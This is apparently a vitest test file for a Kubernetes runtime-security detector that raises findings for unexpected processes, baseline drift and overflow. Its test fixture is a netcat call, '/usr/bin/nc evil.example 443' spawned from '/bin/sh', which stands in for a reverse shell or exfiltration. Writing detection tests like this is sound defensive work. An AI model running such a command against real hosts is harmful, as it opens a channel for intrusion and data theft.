import { describe, expect, it } from "vitest";
import { FindingSchema } from "@outlier/contracts";
import { DEFAULT_POLICY } from "./model.ts";
import { observe, observationFromEvent, type ObserveResult } from "./observe.ts";
import { driftFinding, overflowFinding, unexpectedProcessFinding } from "./findings.ts";
import { execEvent } from "./test-support.ts";

const learnedAt = "2024-05-01T10:00:00.000000000Z";
const nc = execEvent({ binary: "/usr/bin/nc", args: "evil.example 443", parent: { binary: "/bin/sh" } });

/** The baseline after learning nginx at 10:00 and judging `event` (locked by then). */
function judged(event = nc, liveReplicas = 1, runningBinary = 1): ObserveResult {
  const ctx = { policy: DEFAULT_POLICY, liveReplicas, replicasRunningBinary: runningBinary };
  const first = observe(undefined, undefined, observationFromEvent(execEvent({ binary: "/usr/sbin/nginx" }, { time: learnedAt }))!, ctx);
  return observe(first.baseline, undefined, observationFromEvent(event)!, ctx);
}

describe("unexpectedProcessFinding", () => {
  it("builds a valid v1 finding with evidence and a deterministic id", () => {
    const result = judged();
    expect(result.verdict).toBe("unexpected");
    const input = { event: nc, baseline: result.baseline, entry: result.entry, liveReplicas: 3, replicasRunningBinary: 3 };
    const finding = FindingSchema.parse(unexpectedProcessFinding(input));
    expect(finding).toMatchObject({
      type: "process.unexpected",
      severity: "high",
      time: nc.time,
      cluster: "prod",
      pod: "web-1",
      container: "app",
      node: "node-a",
      dedupKey: "process.unexpected|prod/shop/Deployment/web|app|/usr/bin/nc",
      workload: { kind: "Deployment", name: "web", namespace: "shop", labels: nc.pod!.labels, annotations: {} },
      process: { binary: "/usr/bin/nc", parent: { binary: "/bin/sh" } },
    });
    expect(finding.summary).toContain("/usr/bin/nc");
    expect(finding.evidence).toMatchObject({
      eventId: nc.id,
      baseline: { state: "locked", lockedAt: "2024-05-01T11:00:00.000000000Z", entryCount: 2 },
      entry: { status: "pending", pendingReason: "after-lock", count: 1 },
      replicas: { live: 3, runningBinary: 3 },
    });
    expect(unexpectedProcessFinding(input).id).toBe(finding.id);
    expect(unexpectedProcessFinding({ ...input, event: { ...nc, id: "another" } }).id).not.toBe(finding.id);
  });

  it("is critical when one replica of several runs it, or when it is denied", () => {
    const result = judged();
    const base = { event: nc, baseline: result.baseline, entry: result.entry };
    expect(unexpectedProcessFinding({ ...base, liveReplicas: 4, replicasRunningBinary: 1 }).severity).toBe("critical");
    const denied = { ...result.entry!, status: "denied" as const };
    const finding = unexpectedProcessFinding({ ...base, entry: denied, liveReplicas: 1, replicasRunningBinary: 1 });
    expect(finding.severity).toBe("critical");
    expect(finding.summary).toMatch(/^Denied process/);
  });

  it("uses the workload's own labels and annotations when given", () => {
    const result = judged();
    const workloadMeta = { labels: { team: "payments" }, annotations: { "outlier.dev/slack-channel": "#pay" } };
    const finding = unexpectedProcessFinding({ event: nc, baseline: result.baseline, liveReplicas: 1, replicasRunningBinary: 1, workloadMeta });
    expect(finding.workload).toMatchObject(workloadMeta);
  });
});

describe("driftFinding", () => {
  it("is low and lists the image diff so far", () => {
    const onB = (binary: string, time: string) =>
      execEvent({ binary }, { time, pod: { ...nc.pod!, name: "web-new", container: { name: "app", imageDigest: "sha256:bbb" } } });
    const ctx = { policy: DEFAULT_POLICY, liveReplicas: 1, replicasRunningBinary: 1 };
    const locked = judged(execEvent({ binary: "/usr/sbin/nginx" })).baseline;
    const a = observe(locked, undefined, observationFromEvent(onB("/usr/bin/envsubst", "2024-05-01T11:10:00.000000000Z"))!, ctx);
    const event = onB("/usr/bin/jq", "2024-05-01T11:11:00.000000000Z");
    const b = observe(a.baseline, undefined, observationFromEvent(event)!, ctx);
    expect([a.verdict, b.verdict]).toEqual(["drift", "drift"]);
    const finding = FindingSchema.parse(driftFinding({ event, baseline: b.baseline, entry: b.entry, liveReplicas: 1, replicasRunningBinary: 1 }));
    expect(finding).toMatchObject({
      type: "baseline.drift",
      severity: "low",
      pod: "web-new",
      dedupKey: "baseline.drift|prod/shop/Deployment/web|app|sha256:bbb|/usr/bin/jq",
      evidence: {
        imageDigest: "sha256:bbb",
        imageDiff: ["/usr/bin/envsubst", "/usr/bin/jq"],
        relearnWindow: { startedAt: "2024-05-01T11:10:00.000000000Z", endsAt: "2024-05-01T11:20:00.000000000Z" },
      },
    });
  });
});

describe("overflowFinding", () => {
  it("is low, one per baseline, and says how many were not learned", () => {
    const result = judged();
    const baseline = { ...result.baseline, overflowCount: 12 };
    const finding = FindingSchema.parse(overflowFinding({ event: nc, baseline, liveReplicas: 1, replicasRunningBinary: 1 }));
    expect(finding).toMatchObject({ type: "baseline.overflow", severity: "low", dedupKey: "baseline.overflow|prod/shop/Deployment/web|app" });
    expect(finding.summary).toContain("12 executables not learned");
  });
});
